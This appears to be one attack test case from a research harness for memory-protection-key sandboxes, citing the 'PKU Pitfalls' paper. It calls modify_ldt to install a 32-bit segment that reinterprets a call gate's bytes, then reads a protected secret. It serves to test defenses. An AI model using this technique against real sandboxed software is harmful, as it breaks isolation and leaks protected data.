/* Tries: to install segments of its own, for code of 32 bits in which the gate's bytes mean
 *   something else
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: The secret in what the call gave back.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    struct {
        uint32_t entry, base, limit, flags;
    } segment = {0, 0, 0xfffff, 0x51};
    kernel3(SYS_modify_ldt, 1, ADDRESS(&segment), sizeof(segment));
    take(at, at->secret_global);
    return 0;
}
